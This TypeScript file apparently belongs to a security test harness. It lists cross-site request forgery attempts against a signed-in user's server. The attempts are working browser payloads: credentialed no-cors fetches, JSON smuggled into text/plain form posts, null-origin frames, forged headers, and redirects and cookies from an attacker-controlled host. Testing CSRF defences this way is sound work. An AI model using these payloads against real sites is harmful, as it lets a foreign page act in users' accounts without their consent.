/** What a foreign page knows: where the server is, and ids that it may have seen somewhere. */
export interface Target {
  url: string;
  docId: string;
  /** A page of the attacker's own, for redirects and frames. */
  attacker: string;
  /** What of several things is tried: functions that run in a page know nothing but what they are given. */
  variant: string;
}

/**
 * Something that a page of another origin tries in the browser of a person who is signed in. Runs in that page; returns
 * whatever it could read of the server's answer, '' if nothing.
 */
export interface Attack {
  name: string;
  variant?: string;
  run: (target: Target) => Promise<string>;
}

/** They try to change something; the answer is of no interest to them. */
export const WRITES: Attack[] = [
  {
    name: 'fetch without CORS, JSON said to be text',
    run: async ({ url }) => {
      const body = JSON.stringify({ planName: 'Planted' });
      const headers = { 'content-type': 'text/plain' };
      const init: RequestInit = { method: 'POST', mode: 'no-cors', credentials: 'include', headers, body };
      return (await fetch(`${url}/tpa/plan/create`, init)).text();
    },
  },
  {
    name: 'fetch without CORS and without any Content-Type',
    run: async ({ url }) => {
      const body = new Blob([JSON.stringify({ planName: 'Planted' })]);
      const init: RequestInit = { method: 'POST', mode: 'no-cors', credentials: 'include', body };
      return (await fetch(`${url}/tpa/plan/create`, init)).text();
    },
  },
  {
    name: 'fetch with CORS, JSON',
    run: async ({ url }) => {
      const body = JSON.stringify({ planName: 'Planted' });
      const headers = { 'content-type': 'application/json' };
      const init: RequestInit = { method: 'POST', credentials: 'include', headers, body };
      return fetch(`${url}/tpa/plan/create`, init).then(
        (answer) => answer.text(),
        () => '',
      );
    },
  },
  {
    name: 'fetch of an upload form',
    run: async ({ url }) => {
      const body = new FormData();
      body.append('files', new Blob(['%PDF-1.4 planted']), 'planted.pdf');
      const init: RequestInit = { method: 'POST', mode: 'no-cors', credentials: 'include', body };
      return (await fetch(`${url}/document/upload`, init)).text();
    },
  },
  {
    name: 'fetch of an urlencoded form',
    run: async ({ url }) => {
      const body = new URLSearchParams({ planName: 'Planted' });
      const init: RequestInit = { method: 'POST', mode: 'no-cors', credentials: 'include', body };
      return (await fetch(`${url}/tpa/plan/create`, init)).text();
    },
  },
  ...(['PUT', 'DELETE', 'PATCH'] as const).map((variant) => ({
    name: `fetch with the method ${variant}`,
    variant,
    run: async ({ url, variant: method }: Target) =>
      fetch(`${url}/tpa/plan/create`, { method, credentials: 'include' }).then(
        (answer) => answer.text(),
        () => '',
      ),
  })),
  {
    name: 'fetch that claims to be of the same origin',
    run: async ({ url }) => {
      const headers = { 'content-type': 'text/plain', 'sec-fetch-site': 'same-origin', origin: url, host: 'localhost' };
      const body = JSON.stringify({ planName: 'Planted' });
      const init: RequestInit = { method: 'POST', credentials: 'include', headers, body };
      return fetch(`${url}/tpa/plan/create`, init).then(
        (answer) => answer.text(),
        () => '',
      );
    },
  },
  {
    name: 'fetch with an Authorization header of its own',
    run: async ({ url }) => {
      const headers = { authorization: 'Bearer tls_guess', email: 'owner@localhost', 'idempotency-key': 'planted' };
      return fetch(`${url}/key/create`, { method: 'POST', credentials: 'include', headers, body: '{}' }).then(
        (answer) => answer.text(),
        () => '',
      );
    },
  },
  {
    name: 'fetch that outlives its page',
    run: async ({ url }) => {
      const init: RequestInit = {
        method: 'POST',
        mode: 'no-cors',
        credentials: 'include',
        keepalive: true,
        body: '{}',
      };
      return (await fetch(`${url}/session/link`, init)).text();
    },
  },
  {
    name: 'XMLHttpRequest with credentials',
    run: ({ url }) =>
      new Promise((done) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${url}/tpa/plan/create`);
        request.withCredentials = true;
        request.setRequestHeader('content-type', 'text/plain');
        request.onloadend = () => done(request.responseText);
        request.send(JSON.stringify({ planName: 'Planted' }));
      }),
  },
  ...(['text/plain', 'application/json'] as const).map((variant) => ({
    name: `a beacon of ${variant}`,
    variant,
    run: async ({ url, variant: type }: Target) => {
      try {
        navigator.sendBeacon(`${url}/tpa/plan/create`, new Blob([JSON.stringify({ planName: 'Planted' })], { type }));
      } catch {
        // Some kinds are refused by the browser itself.
      }
      return '';
    },
  })),
  ...(['multipart/form-data', 'text/plain', 'application/x-www-form-urlencoded'] as const).map((variant) => ({
    name: `a form post of ${variant} into a frame`,
    variant,
    run: ({ url, variant: type }: Target) =>
      new Promise<string>((done) => {
        const frame = document.createElement('iframe');
        frame.name = `into-${Math.random()}`;
        const form = document.createElement('form');
        Object.assign(form, { action: `${url}/tpa/plan/create`, method: 'post', enctype: type, target: frame.name });
        const field = document.createElement('input');
        // As text/plain this is a line of JSON.
        Object.assign(field, { name: '{"planName":"Planted","x":"', value: '"}' });
        form.append(field);
        document.body.append(frame, form);
        frame.onload = () => done(frame.contentDocument?.body?.textContent ?? '');
        form.submit();
        setTimeout(() => done(''), 750);
      }),
  })),
  {
    name: 'a form post from a sandboxed frame, whose origin is null',
    run: ({ url }) =>
      new Promise((done) => {
        const frame = document.createElement('iframe');
        frame.sandbox.add('allow-scripts', 'allow-forms');
        frame.srcdoc = `<form action="${url}/document/upload" method="post" enctype="multipart/form-data">
          <input name="files" value="x"></form><script>document.forms[0].submit()</script>`;
        document.body.append(frame);
        setTimeout(() => done(frame.contentDocument?.body?.textContent ?? ''), 500);
      }),
  },
  ...(['srcdoc', 'data'] as const).map((variant) => ({
    name: `fetch from a frame without origin (${variant})`,
    variant,
    run: ({ url, variant: kind }: Target) =>
      new Promise<string>((done) => {
        const page = `<script>
          fetch('${url}/tpa/plan/create', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"planName":"Planted"}' })
            .then((answer) => answer.text(), () => '').then((text) => parent.postMessage('read:' + text, '*'));
        </script>`;
        const frame = document.createElement('iframe');
        frame.sandbox.add('allow-scripts');
        if (kind === 'srcdoc') frame.srcdoc = page;
        else frame.src = `data:text/html,${encodeURIComponent(page)}`;
        addEventListener('message', ({ data }) => done(String(data).replace(/^read:/, '')), { once: true });
        document.body.append(frame);
        setTimeout(() => done(''), 1500);
      }),
  })),
  {
    name: 'a redirect of its own server that keeps method and body',
    run: async ({ url, attacker }) => {
      const to = `${attacker}/redirect?to=${encodeURIComponent(`${url}/tpa/plan/create`)}`;
      const body = JSON.stringify({ planName: 'Planted' });
      const init: RequestInit = { method: 'POST', mode: 'no-cors', credentials: 'include', body };
      return fetch(to, init).then(
        (answer) => answer.text(),
        () => '',
      );
    },
  },
  {
    name: 'cookies that its server sets for the same host',
    run: async ({ url, attacker }) => {
      await fetch(`${attacker}/cookies`);
      const init: RequestInit = { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' };
      return (await fetch(`${url}/session/link`, init)).text();
    },
  },
];
